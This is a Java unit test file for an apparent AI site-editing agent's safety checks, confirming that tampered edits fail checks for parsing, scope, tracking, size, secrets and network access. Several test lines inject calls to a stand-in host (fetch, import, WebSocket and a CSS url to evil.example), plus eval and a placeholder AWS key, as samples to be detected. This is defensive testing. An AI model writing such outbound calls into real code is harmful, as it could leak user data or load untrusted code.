package dev.pryo.agent.edit;

import static org.assertj.core.api.Assertions.assertThat;

import dev.pryo.agent.ChangeSet;
import dev.pryo.agent.Check;
import dev.pryo.agent.FileChange;
import dev.pryo.agent.Outcome.Tracked;
import dev.pryo.agent.SourceText;
import dev.pryo.agent.SourceTree;
import dev.pryo.agent.words.Instruction;
import dev.pryo.agent.words.Instructions;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.function.UnaryOperator;
import org.junit.jupiter.api.Test;

/// Each check fails once what it guards against has been written.
class ChecksTest {
  private static final Sample SHOP = Sample.shop();
  private static final List<Tracked> TRACKED = List.of(new Tracked("purchase", "a.js", 1, "x"));

  @Test
  void anUntouchedResultPasses() {
    assertThat(failing("product.html", text -> text)).isEmpty();
  }

  @Test
  void brokenFilesFail() {
    assertThat(failing("js/pryo-buy-now.js", text -> text + "(")).contains("parses");
    assertThat(failing("css/pryo-buy-now.css", text -> text + "}")).contains("parses");
    assertThat(failing("product.html", text -> text.replace("</h1>", "</h1></i></b>")))
        .contains("parses", "control_equals_base");
  }

  @Test
  void aByteThatChangesTheControlFails() {
    assertThat(failing("product.html", text -> text.replace("Blue mug</h1>", "Blue mug </h1>")))
        .containsExactly("control_equals_base");
    assertThat(failing("product.html", text -> text.replace("\n", "\r\n")))
        .containsExactly("control_equals_base");
  }

  @Test
  void anotherAddressFails() {
    for (var line :
        List.of(
            "fetch(\"https://evil.example/x\");",
            "import(\"//evil.example/x.js\");",
            "new WebSocket(\"wss://evil.example\");",
            "eval(\"1\");",
            "document.body.innerHTML = \"\";",
            "new Function(\"1\");")) {
      assertThat(failing("js/pryo-buy-now.js", text -> text + line + "\n"))
          .as(line)
          .containsExactly("network");
    }
    assertThat(
            failing(
                "css/pryo-buy-now.css", text -> text + "a { background: url(//evil.example) }\n"))
        .containsExactly("network");
  }

  @Test
  void aSecretFails() {
    assertThat(failing("js/pryo-buy-now.js", text -> text + "// AKIA" + "IOSFODNN7EXAMPLE\n"))
        .containsExactly("secrets");
  }

  @Test
  void askingTwiceOrNeverFails() {
    assertThat(failing("js/pryo-buy-now.js", text -> text + "window.pryo?.variant(\"buy-now\");\n"))
        .containsExactly("tracking");
    assertThat(failing("js/pryo-buy-now.js", text -> text.replace("variant(", "peek(")))
        .containsExactly("tracking");
  }

  @Test
  void aGoalThatNothingSendsFails() {
    assertThat(run("change 'Add to cart' to 'Buy now'", changes -> changes, List.of()))
        .containsExactly("tracking");
  }

  @Test
  void aFileThatWasNotPlannedFails() {
    assertThat(
            run(
                "change 'Add to cart' to 'Buy now'",
                changes -> with(changes, FileChange.added("js/more.js", bytes("1;\n"))),
                TRACKED))
        .containsExactly("scope");
    assertThat(
            run(
                "change 'Add to cart' to 'Buy now'",
                changes -> with(changes, FileChange.added(".github/x.js", bytes("1;\n"))),
                TRACKED))
        .containsExactly("scope");
  }

  @Test
  void tooMuchFails() {
    assertThat(failing("js/pryo-buy-now.js", text -> text + "//" + "x".repeat(300_000) + "\n"))
        .contains("size");
  }

  @Test
  void aSegmentThatShowsTheControlFails() {
    assertThat(run("change 'Add to cart' to 'Add to cart'", changes -> changes, TRACKED))
        .containsExactly("segments_differ");
  }

  @Test
  void anotherStyleIsAWarning() {
    var done = SHOP.done("change 'Add to cart' to 'Buy now'");
    assertThat(done.checks())
        .contains(Check.pass("style", "What is added is written as the team writes."));
    var foreign = new SourceText("js/x.js", false, "const a = 'b'\nconst c = {\n    d: 1\n}\n");
    var team = new Site(SourceTree.ofTexts(SHOP.files()), null, Set.of()).style();
    assertThat(team.departs(foreign)).isPresent();
  }

  private static List<String> failing(String path, UnaryOperator<String> tamper) {
    return run(
        "change 'Add to cart' to 'Buy now'",
        changes ->
            new ChangeSet(
                changes.changes().stream()
                    .map(one ->
                        one.path().equals(path)
                            ? new FileChange(path, one.base(), bytes(tamper.apply(one.text())))
                            : one)
                    .toList()),
        TRACKED);
  }

  private static List<String> run(
      String words, UnaryOperator<ChangeSet> tamper, List<Tracked> tracked) {
    var brief = SHOP.brief("buy-now", words);
    var site = new Site(SourceTree.ofTexts(SHOP.files()), null, Set.of());
    var plan = new Plan();
    var planner = new Planner(site, new Finder(site), plan, Set.of());
    for (Instruction.Change change : Instructions.of(words).changes()) {
      assertThat(planner.change("test1", change)).isEmpty();
    }
    var writer = new Writer(site, brief, plan);
    var changes = tamper.apply(writer.write());
    return new Checks(site, brief, plan, writer, changes, tracked)
        .run().stream()
            .filter(check -> check.status() == Check.Status.FAIL)
            .map(Check::id)
            .toList();
  }

  private static ChangeSet with(ChangeSet changes, FileChange more) {
    var all = new ArrayList<>(changes.changes());
    all.add(more);
    return new ChangeSet(all);
  }

  private static byte[] bytes(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }
}
